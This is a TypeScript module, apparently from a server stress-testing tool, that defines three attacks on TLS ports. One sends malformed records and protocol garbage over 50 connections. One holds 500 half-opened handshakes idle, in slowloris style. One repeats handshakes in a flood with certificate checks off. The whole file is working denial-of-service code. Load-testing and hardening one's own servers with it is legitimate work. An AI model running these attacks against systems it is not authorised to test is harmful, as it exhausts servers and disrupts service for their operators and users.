import { connect } from 'node:tls'
import { type Attack, pause, withConnections } from '../attack.ts'

/** The beginning of a TLS record with a part of a handshake, of `length` bytes. */
function record(length: number, type = 0x16): Buffer {
  return Buffer.from([type, 3, 1, length >> 8, length & 255])
}

const PIECES: readonly Buffer[] = [
  Buffer.concat([record(16_384), Buffer.alloc(16_384, 1)]),
  Buffer.concat([record(65_535), Buffer.alloc(65_535, 0xff)]),
  Buffer.concat([record(4), Buffer.from([1, 0xff, 0xff, 0xff])]),
  Buffer.concat([record(0), record(0), record(0)]),
  Buffer.concat([record(2, 0x15), Buffer.from([2, 0])]),
  Buffer.alloc(100_000, 0x16),
  Buffer.from('GET / HTTP/1.1\r\nHost: localhost\r\n\r\n'),
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  Buffer.from([0x80, 0x2e, 1, 0, 2]),
]

/** What can be done to a port that speaks TLS. */
export const TLS_ATTACKS: readonly Attack[] = [
  {
    name: 'tls garbage',
    does: '50 connections send what is no handshake',
    isRaw: true,
    run: (context) =>
      withConnections(context, 50, async (connection, index) => {
        await connection.write(PIECES[index % PIECES.length] as Buffer)
        context.counts.add('pieces')
        await Promise.race([connection.closed(context.signal), pause(context.signal, 200)])
      }),
  },
  {
    name: 'tls silence',
    does: '500 connections begin a handshake and say no more',
    isRaw: true,
    run: (context) =>
      withConnections(context, 500, async (connection) => {
        await connection.write(Buffer.concat([record(512), Buffer.from([1, 0, 1, 0xfc])]))
        await connection.closed(context.signal)
      }),
  },
  {
    name: 'handshakes',
    does: '50 at a time shake hands and leave',
    isRaw: true,
    run: async ({ target, signal, counts }) => {
      const one = async (index: number): Promise<void> => {
        while (!signal.aborted) {
          const { host, port } = target
          const ALPNProtocols = [['h2'], ['http/1.1'], ['h2', 'http/1.1'], ['nothing']][index % 4] as string[]
          const socket = connect({ host, port, rejectUnauthorized: false, ALPNProtocols })
          const stop = (): void => void socket.destroy()
          signal.addEventListener('abort', stop, { once: true })
          await new Promise<void>((resolve) => {
            socket.once('secureConnect', () => {
              counts.add('handshakes')
              socket.destroy()
            })
            socket.on('error', () => {})
            socket.once('close', () => resolve())
          })
          signal.removeEventListener('abort', stop)
          await pause(signal, 1)
        }
      }
      await Promise.all(Array.from({ length: 50 }, (_, index) => one(index)))
    },
  },
]
